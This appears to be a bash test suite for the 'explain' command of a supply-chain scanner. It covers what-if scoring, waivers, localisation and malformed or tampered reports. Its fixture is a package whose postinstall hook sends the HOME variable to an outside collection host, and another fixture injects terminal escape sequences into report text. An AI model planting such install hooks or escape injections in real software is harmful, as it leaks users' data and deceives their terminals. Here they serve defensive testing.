# probity explain: what moved a report's numbers; what is supposed is what a scan would have said.
. tests/tap.sh
corpus=${PROBITY_TEST_CACHE:-$scratch}/corpus
products="hello less age zlib1g ca-certificates netcat-traditional popularity-contest lodash semver @scarf/scarf"
# shellcheck disable=SC2086
"$here/tests/corpus.sh" "$corpus" $products 2>"$scratch/corpus.log"
cd "$scratch" || exit 1
export HOME=$scratch/home
mkdir -p home trust prod
file_of() { awk -v n="$1" '$2 == n {print $5}' "$here/tests/corpus.lock"; }
# numbers of a report in FILE; of what is supposed, in $out
numbers_of() { /usr/bin/python3 -c 'import json, sys
s = json.load(open(sys.argv[1]))["score"]
print([s[k] for k in ("trust_tenths", "unwaived_trust_tenths", "floor_tenths", "confidence_permille", "demerit_milli", "cap", "decision", "valid_until", "conditions")])' "$1"; }
supposed() { /usr/bin/python3 -c 'import json, sys
w = json.load(sys.stdin)["what_if"]
print([w["after"][k] for k in ("trust_tenths", "unwaived_trust_tenths", "floor_tenths", "confidence_permille", "demerit_milli", "cap", "decision", "valid_until")] + [w["conditions"]])' <<<"$out"; }
explain() { run "$PROBITY" explain "$@"; }

# --- another policy: the same as a scan by it, of real products
seen=0
for name in $products; do
  f=$corpus/$(file_of "$name")
  [[ -f $f ]] || { skip "$name" "not to be had"; continue; }
  seen=$((seen + 1))
  scan "$f" && printf '%s\n' "$out" >"$seen.json"
  for policy in government consumer; do
    scan --policy $policy "$f" && printf '%s\n' "$out" >other.json
    explain -f json --what-if policy=$policy "$seen.json"
    is "$name by $policy: as the scan says" "$(supposed)" "$(numbers_of other.json)"
  done
  explain -f json --what-if policy=business "$seen.json"
  is "$name: by its own policy nothing changes" "$(supposed)" "$(numbers_of "$seen.json")"
  explain "$seen.json"
  is "$name: in words" "$rc" 0
  is "... within 80 columns" "$(/usr/bin/python3 -c 'import sys; print([l for l in sys.stdin.read().split("\n") if len(l) > 80])' <<<"$out")" "[]"
done

# --- waivers: as the scan with signed ones; and what else moves
printf '{"name":"twin","version":"1.0.1","scripts":{"postinstall":"node index.js"}}\n' >prod/package.json
printf "require('https').get('http://collect.vendor-host.net/v1?' + process.env.HOME);\n" >prod/index.js
tar --owner=0 --group=0 --mtime=@0 --sort=name -cf prod.tar prod
"$PROBITY" pack key new -W -s a.key -p a.pub >/dev/null && "$PROBITY" trust add a.pub --role assessor --trust "$scratch/trust" --name a >/dev/null
scan prod.tar && printf '%s\n' "$out" >plain.json
check=$(get 'r["findings"][0]["check"]') key=$(get 'r["findings"][0]["key"]')
mkdir signed
"$PROBITY" waive plain.json --check "$check" --key "$key" --reason "Known" --expires 2027-01-31 --owner "J. Doe" --issued 2026-11-20 \
  -o signed/waiver.json 2>"$scratch/waive.log"
minisign -S -W -s a.key -m signed/waiver.json >"$scratch/sign.log" 2>&1 || minisign -S -s a.key -m signed/waiver.json </dev/null >"$scratch/sign.log" 2>&1
scan --trust "$scratch/trust" --waivers signed prod.tar && printf '%s\n' "$out" >waived.json
is "the scan heeds the waiver" "$(get '[bool(f["waived"]) for f in r["findings"] if (f["check"], f["key"]) == ("'"$check"'", "'"$key"'")]')" "[true]"
explain -f json --what-if "waive=$check/$key" plain.json
is "what if it is waived: as the scan with the waiver says" "$(supposed)" "$(numbers_of waived.json)"
explain --what-if "waive=$check/$key" plain.json
like "... and what that needs" "${out//$'\n'/ }" "probity +waive +REPORT +--check +$check"
explain -f json --what-if as-of=2027-02-01 waived.json
is "... which expires" "$(get '[len(r["what_if"]["asked"][0]["waivers"]), r["what_if"]["after"]["trust_tenths"] == r["what_if"]["after"]["unwaived_trust_tenths"]]')" "[1, true]"
explain -f json --what-if "fix=$check" plain.json
is "mended: no less trust" "$(get 'r["what_if"]["after"]["trust_tenths"] >= r["numbers"]["trust_tenths"]')" true
explain -f json --what-if evidence=sbom --what-if evidence=provenance plain.json
is "evidence: trust stays, confidence and floor do not fall" \
  "$(get '[r["what_if"]["after"][k] >= r["numbers"][k] for k in ("floor_tenths", "confidence_permille")] + [r["what_if"]["after"]["trust_tenths"] == r["numbers"]["trust_tenths"]]')" "[true, true, true]"
is "... with the rows that would pass, and only what could" \
  "$(get '[sorted({c["catalogue"] for c in a["pass"]}) for a in r["what_if"]["asked"]] + [c["status"] for a in r["what_if"]["asked"] for c in a["pass"] if c["status"] in ("fail", "n/a")]')" \
  '[["V-01"], ["V-03"]]'
explain --what-if evidence=sbom plain.json
like "... said to be an upper bound" "${out//$'\n'/ }" "upper +bound"
explain -f json plain.json
is "the parts of the fall sum up" "$(get '1000 - sum(f["fall_tenths"] for f in r["trust"]["falls"]) - r["trust"]["cap_falls_tenths"] == r["numbers"]["trust_tenths"]')" true
first=$out
explain -f json - <plain.json
is "from standard input, the same bytes" "$out" "$first"

# --- words
for lang in en fr; do
  explain --lang $lang -v --what-if policy=government --what-if "waive=$check" --what-if evidence=audit --what-if evidence=V-01 --what-if as-of=2027-01-01 plain.json
  is "everything in $lang" "$rc" 0
done
ok "both languages have the same keys" bash -c 'diff <(grep -o "^  \[\"[^\"]*\"\]" "$1/explain_en.lua") <(grep -o "^  \[\"[^\"]*\"\]" "$1/explain_fr.lua")' _ "$here/scripts/reports/lib"
is "no word says that anything is safe or malicious" "$(grep -ciE '"[^"]*\b(safe|malicious|secure)\b' "$here"/scripts/reports/lib/explain_en.lua)" 0
refused() { # NAME REGEX ARGUMENTS...
  local name=$1 wanted=$2
  shift 2
  status "$name" 2 "$PROBITY" explain "$@"
  like "... told" "$err" "$wanted"
}
refused "no such check" "did you mean $check\\?" --what-if "fix=${check}x" plain.json
refused "no such key" "no finding has this key" --what-if "fix=$check/zz" plain.json
refused "a check that found nothing" "found nothing" --what-if fix=integrity.known-malware plain.json
refused "no such evidence" "did you mean sbom" --what-if evidence=sbmo plain.json
refused "no such policy" 'did you mean "government"' --what-if policy=goverment plain.json
refused "an earlier day" "does not say what held before" --what-if as-of=2026-11-20 plain.json
refused "no such supposition" "did you mean policy=" --what-if polcy=x plain.json
refused "nothing to suppose" "say what" --what-if fix plain.json
refused "two days" "one day at a time" --what-if as-of=2027-01-01 --what-if as-of=2027-01-02 plain.json
refused "no report" "no report that can be read" prod/package.json
refused "no file" "nowhere.json" nowhere.json
"$PROBITY" pack key new -W -s signer.key -p signer.pub >/dev/null
"$PROBITY" sign plain.json --key signer.key -o envelope.json 2>/dev/null
explain -f json plain.json && printf '%s\n' "$out" >explained.json
explain -f json envelope.json
is "a signed report: explained as the one in it" "$rc $out" "0 $(<explained.json)"
printf '%s\n' '{"payload":"e30=","payloadType":"application/vnd.in-toto+json","signatures":[{"sig":"AA=="}]}' >void.json
refused "an envelope of no report" "void.json: it is no report that can be read" void.json
sed 's/^\[policy\]/[residency]\nregions = DE\n[policy]/' "$here/rulesets/policies/business.ini" >regions.ini
refused "a policy that asks what was not looked at" "other regions" --what-if policy=./regions.ini plain.json
printf '[overrides]\n%s = low | we know it\n' "$check" >>home/x && cat "$here/rulesets/policies/business.ini" home/x >override.ini
scan --policy ./override.ini prod.tar && printf '%s\n' "$out" >overridden.json
refused "a policy without the override that the report was made by" "its own policy made $check low" --what-if policy=business overridden.json
/usr/bin/python3 -c 'import json; r = json.load(open("plain.json")); r["score"]["trust_tenths"] += 1; json.dump(r, open("lie.json", "w"))'
explain lie.json
like "numbers that do not follow are told" "${out//$'\n'/ }" "probity +verify"
/usr/bin/python3 -c 'import json; r = json.load(open("plain.json"))
for f in r["findings"]: f["says"] = "a\x1b[31mb\u202ec" + "x" * 500
r["product"]["name"] = "p\x1b]0;t\x07\nq"
json.dump(r, open("hostile.json", "w"))'
explain -v hostile.json
is "hostile text: told" "$rc" 0
is "... moves no cursor" "$(tr -d -c '\033\007' <<<"$out" | wc -c)" 0
is "... within 80 columns" "$(/usr/bin/python3 -c 'import sys; print([l for l in sys.stdin.read().split("\n") if len(l) > 80])' <<<"$out")" "[]"
status "help" 0 "$PROBITY" explain --help
done_testing
